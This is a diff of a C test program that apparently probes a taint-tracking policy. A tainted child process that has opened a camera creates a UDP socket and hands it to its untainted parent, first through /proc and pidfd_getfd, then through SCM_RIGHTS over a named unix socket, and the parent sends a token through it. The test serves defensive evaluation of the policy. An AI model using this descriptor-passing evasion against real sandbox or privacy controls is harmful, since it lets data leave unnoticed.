@@ -1,95 +1,105 @@
-/* socket_handoff.c - attack: a tainted child makes a UDP socket; its untainted parent takes a copy with pidfd_getfd and sends from it to a third party. */
-#include <dirent.h>
+/* socket_handoff.c - attack: a tainted child makes a UDP socket and hands it to its untainted parent over a named unix socket; the parent sends from it to a third party. */
 #include <signal.h>
-#include <sys/stat.h>
-#include <sys/syscall.h>
+#include <sys/un.h>
 #include <sys/wait.h>
 
 #include "attack.h"
 
 #define ROUTE "socket_handoff"
 
-/* The first socket descriptor PID holds, or -1: found through /proc, so no channel from the child taints us. */
-static int socket_fd_of(pid_t pid)
+/* The child's part: tainted, it makes the socket and passes it over the parent's named socket. */
+static void child(const char *camera, int family, const struct sockaddr_un *sun, socklen_t ulen)
 {
-	char dir[64], path[320];
-	struct dirent *de;
-	struct stat st;
-	int n = -1;
-	DIR *d;
+	char ctl[CMSG_SPACE(sizeof(int))] = "", byte = 'S';
+	struct iovec iov = { .iov_base = &byte, .iov_len = 1 };
+	struct msghdr msg = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = ctl,
+			      .msg_controllen = sizeof(ctl) };
+	struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
+	int s, u;
 
-	snprintf(dir, sizeof(dir), "/proc/%d/fd", (int)pid);
-	if (!(d = opendir(dir)))
-		return -1;
-	while (n < 0 && (de = readdir(d))) {
-		snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
-		if (de->d_name[0] != '.' && stat(path, &st) == 0 && S_ISSOCK(st.st_mode))
-			n = atoi(de->d_name);
-	}
-	closedir(d);
-	return n;
+	at_taint(ROUTE, camera);
+	s = socket(family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+	u = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+	if (s < 0 || u < 0 || connect(u, (const struct sockaddr *)sun, ulen) < 0)
+		_exit(1);	/* the parent says so: it gets no socket */
+	c->cmsg_level = SOL_SOCKET;
+	c->cmsg_type = SCM_RIGHTS;
+	c->cmsg_len = CMSG_LEN(sizeof(int));
+	memcpy(CMSG_DATA(c), &s, sizeof(s));
+	if (sendmsg(u, &msg, 0) < 0)
+		_exit(1);
+	pause();
+	_exit(0);
 }
 
-/* The parent's part: wait for the child's socket, take it, send on it. */
-static int take_and_send(pid_t child, const struct sockaddr_storage *ss, socklen_t len)
+/* The socket the child passed on the accepted connection C, or -1. */
+static int receive_socket(int c)
 {
-	char tok[128];
-	int pidfd, target = -1, fd;
-	size_t n;
+	char ctl[CMSG_SPACE(sizeof(int))], byte;
+	struct iovec iov = { .iov_base = &byte, .iov_len = 1 };
+	struct msghdr msg = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = ctl,
+			      .msg_controllen = sizeof(ctl) };
+	struct cmsghdr *cm;
+	int fd;
 
-	for (int i = 0; i < 100 && target < 0; i++) {
-		target = socket_fd_of(child);
-		if (target < 0)
-			usleep(20000);
-	}
-	if (target < 0) {
-		at_result(ROUTE, "error", "the child made no socket");
-		return 1;
-	}
-	pidfd = (int)syscall(SYS_pidfd_open, child, 0);
-	if (pidfd < 0)
-		return at_report_errno(ROUTE, "pidfd_open", errno);
-	fd = (int)syscall(SYS_pidfd_getfd, pidfd, target, 0);
-	if (fd < 0)
-		return at_report_errno(ROUTE, "pidfd_getfd", errno);
-	n = at_token(tok, sizeof(tok), ROUTE);
-	if (sendto(fd, tok, n, 0, (const struct sockaddr *)ss, len) != (ssize_t)n)
-		return at_report_errno(ROUTE, "sendto on the tainted child's socket", errno);
-	at_result(ROUTE, "through", "the untainted parent sent %zu bytes on the socket its tainted child made", n);
-	return 0;
+	if (recvmsg(c, &msg, 0) <= 0 || !(cm = CMSG_FIRSTHDR(&msg)) || cm->cmsg_type != SCM_RIGHTS)
+		return -1;
+	memcpy(&fd, CMSG_DATA(cm), sizeof(fd));
+	return fd;
 }
 
 /*
- * usage: socket_handoff CAMERA A.B.C.D:PORT
- * The parent never opens a camera and reads nothing the child wrote: it
- * finds the child's socket in /proc and copies it with pidfd_getfd (root
- * here, so ptrace rights). Only the socket itself can say it is tainted.
+ * usage: socket_handoff CAMERA A.B.C.D:PORT /PATH
+ * The parent never opens a camera. It listens at /PATH (a name the policy
+ * lets the child reach; a named socket carries no taint to its server,
+ * and the parent reads nothing else the child wrote), takes the UDP
+ * socket its tainted child made, and sends from it. Only the socket
+ * itself can say it is tainted.
  */
 int main(int argc, char **argv)
 {
 	struct sockaddr_storage ss;
-	socklen_t len;
-	pid_t child;
-	int rc;
+	struct sockaddr_un sun;
+	socklen_t len, ulen;
+	char tok[128];
+	int l, c = -1, fd = -1, rc = 0;
+	size_t n;
+	pid_t pid;
 
-	if (argc != 3) {
-		fprintf(stderr, "usage: " ROUTE " CAMERA A.B.C.D:PORT\n");
+	if (argc != 4) {
+		fprintf(stderr, "usage: " ROUTE " CAMERA A.B.C.D:PORT /PATH\n");
 		return 2;
 	}
 	at_need_inet(ROUTE, argv[2], &ss, &len);
-	fflush(stdout);
-	child = fork();
-	if (child < 0)
-		return at_report_errno(ROUTE, "fork", errno);
-	if (child == 0) {
-		at_taint(ROUTE, argv[1]);
-		if (socket(ss.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0) < 0)
-			_exit(1);
-		pause();
-		_exit(0);
+	if (!at_unix_addr(argv[3], &sun, &ulen)) {
+		at_result(ROUTE, "error", "bad unix address \"%s\"", argv[3]);
+		return 1;
 	}
-	rc = take_and_send(child, &ss, len);
-	kill(child, SIGKILL);
-	waitpid(child, NULL, 0);
+	l = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+	if (l < 0 || bind(l, (struct sockaddr *)&sun, ulen) < 0 || listen(l, 1) < 0)
+		return at_report_errno(ROUTE, "listen", errno);
+	fflush(stdout);
+	pid = fork();
+	if (pid < 0)
+		return at_report_errno(ROUTE, "fork", errno);
+	if (pid == 0)
+		child(argv[1], ss.ss_family, &sun, ulen);
+	c = accept(l, NULL, NULL);
+	if (c >= 0)
+		fd = receive_socket(c);
+	if (fd < 0) {
+		at_result(ROUTE, "error", "the tainted child passed no socket");
+		rc = 1;
+	} else {
+		n = at_token(tok, sizeof(tok), ROUTE);
+		if (sendto(fd, tok, n, 0, (const struct sockaddr *)&ss, len) != (ssize_t)n)
+			rc = at_report_errno(ROUTE, "sendto on the tainted child's socket", errno);
+		else
+			at_result(ROUTE, "through", "the untainted parent sent %zu bytes on the socket its tainted child made",
+				  n);
+	}
+	kill(pid, SIGKILL);
+	waitpid(pid, NULL, 0);
+	unlink(argv[3]);
 	return rc;
 }
